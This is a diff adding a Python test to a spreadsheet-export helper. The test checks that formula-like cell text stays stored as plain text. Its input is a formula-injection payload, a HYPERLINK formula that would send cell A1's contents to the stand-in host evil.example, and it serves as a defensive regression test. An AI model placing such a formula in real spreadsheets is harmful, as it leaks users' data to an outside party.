@@ -31,3 +31,11 @@ def test_dates_stay_dates_and_other_values_become_text():
     ws = load_workbook(io.BytesIO(data)).worksheets[0]
     assert ws["A2"].value == datetime(2026, 11, 26, 9, 30)
     assert ws["B2"].value == "['a']"
+
+
+def test_text_that_looks_like_a_formula_stays_text():
+    typed = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+    data = workbook_bytes([Sheet("x", ["描述"], [[typed]], notes=["=1+1"])])
+    ws = load_workbook(io.BytesIO(data)).worksheets[0]
+    assert (ws["A2"].value, ws["A2"].data_type) == (typed, "s")
+    assert (ws["A4"].value, ws["A4"].data_type) == ("=1+1", "s")
